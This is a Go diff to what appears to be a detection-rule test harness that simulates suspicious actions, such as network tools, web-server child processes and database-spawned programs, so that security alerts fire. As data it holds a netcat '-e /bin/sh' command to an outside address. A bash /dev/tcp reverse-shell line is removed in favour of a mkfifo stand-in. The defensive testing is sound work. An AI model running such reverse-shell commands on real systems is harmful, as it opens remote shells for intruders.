@@ -44,7 +44,7 @@ func actionsOfPrograms() []*Action {
 			Rules: []string{"Launch Suspicious Network Tool on Host"}},
 			program("nmap", "-sn", addressOutside)),
 		one(Action{Name: "netcat-on-host", Does: "netcat is told to run a shell (and does nothing)", In: Host,
-			Rules: []string{"Netcat/Socat Remote Code Execution on Host", "Network tool that runs a program"}},
+			Rules: []string{"Netcat/Socat Remote Code Execution on Host", "Launch Suspicious Network Tool on Host", "Network tool that runs a program"}},
 			program("nc", "-e", "/bin/sh", addressOutside, "4444")),
 	}
 }
@@ -57,9 +57,9 @@ func actionsOfServers() []*Action {
 		one(Action{Name: "web-shell-tool", Does: "a web server starts whoami", In: Anywhere,
 			Rules: []string{"Web Server Spawned Suspicious Child Process"}},
 			program("whoami").under("nginx")),
-		one(Action{Name: "web-reverse-shell", Does: "a web server starts a shell with the text of a reverse shell", In: Anywhere,
+		one(Action{Name: "web-reverse-shell", Does: "a web server makes a pipe in /tmp, as the beginning of a reverse shell does", In: Anywhere,
 			Rules: []string{"Reverse Shell from Web Server"}},
-			program("bash", "-c", "bash -i >& /dev/tcp/"+addressOutside+"/4444 0>&1").under("nginx")),
+			program("mkfifo", "/tmp/eyrie-simulate").under("php-fpm")),
 		one(Action{Name: "database-child", Does: "a database starts a program", In: Anywhere,
 			Rules: []string{"DB program spawned process"}},
 			program("ls").under("mysqld")),
